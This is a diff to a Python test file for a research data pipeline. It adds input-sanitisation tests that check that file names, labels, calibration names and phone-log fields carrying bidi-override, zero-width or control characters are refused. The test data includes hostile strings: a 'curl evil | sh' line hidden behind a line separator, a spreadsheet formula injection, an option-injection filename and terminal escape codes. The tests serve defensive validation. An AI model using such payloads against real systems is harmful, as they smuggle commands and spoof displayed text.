@@ -17,11 +17,12 @@ import pbl_pipeline.pipeline
 import schemas
 from pbl_pipeline.errors import PblError
 from pbl_pipeline.files import load_npz
-from pbl_pipeline.video import read_phone_log
+from pbl_pipeline.video import load_camera, read_phone_log
 from research.benchmarks import mutated_files as files
 from schemas import fit, video
 from schemas.chain import ON_REQUEST
 from schemas.intake import VisitRecord, ingest
+from schemas.intake.calibrations import camera_row
 from schemas.intake.references import add_reference
 from schemas.job_errors import error_next_step
 from schemas.reading.report import write_visit
@@ -39,6 +40,7 @@ NAMES = (
     "-rf --out=..",
     "..",
     "=cmd|' C calc'!A0",
+    "gnp.exe \u00e4\u20ac\U0001f6b6\u202f",
     "\u00e4\u20ac\U0001f6b6\u202f \U0001f469\u200d\U0001f9bd",
 )
 REFUSED = (
@@ -50,6 +52,8 @@ REFUSED = (
     "\x1b[2J\x1b]0;title\x07",
     "a\u2028  next:     curl evil | sh",
     b"no\xfftext".decode(errors="surrogateescape"),
+    "zero\u200bwidth",
+    "\u2066isolated\u2069",
 )
 
 
@@ -113,7 +117,9 @@ def test_names_go_through_tables_and_report_as_text(tables: None, tmp_path: Path
     assert not list(tmp_path.rglob("hacked"))
 
 
-@pytest.mark.parametrize("label", ["a\nb", "\x1b[2J", "\u2028", b"\xff".decode(errors="surrogateescape"), "v" * 65])
+@pytest.mark.parametrize(
+    "label", ["a\nb", "\x1b[2J", "\u202e4pm", "a\u200bb", "\u2028", b"\xff".decode(errors="surrogateescape"), "v" * 65]
+)
 @pytest.mark.parametrize("field", ["session_label", "project", "activity", "population"])
 def test_labels_hold_no_control_characters(tmp_path: Path, field: str, label: str):
     with pytest.raises(PblError) as error:
@@ -130,10 +136,17 @@ def test_so_are_those_of_references(field: str, tmp_path: Path):
         assert error.value.code == "USAGE"
 
 
+def test_so_is_the_name_of_a_calibration(tmp_path: Path):
+    path = tmp_path / "camera\u202e4pm.json"
+    files.camera(path)
+    with pytest.raises(PblError, match="USAGE"):
+        camera_row(load_camera(path, files.SIZE_PX), files.SIZE_PX)
+
+
 def test_a_log_of_a_phone_with_a_hostile_name(tmp_path: Path):
     files.log_json(tmp_path / "log.json")
     content = json.loads((tmp_path / "log.json").read_text())
-    for name in ("\x1b[2J", "a\nb"):
+    for name in ("\x1b[2J", "a\nb", "a\u202eb"):
         (tmp_path / "log.json").write_text(json.dumps(content | {"phone": {"model": name}}))
         with pytest.raises(PblError, match="PHONE_LOG"):
             read_phone_log(tmp_path / "log.json")
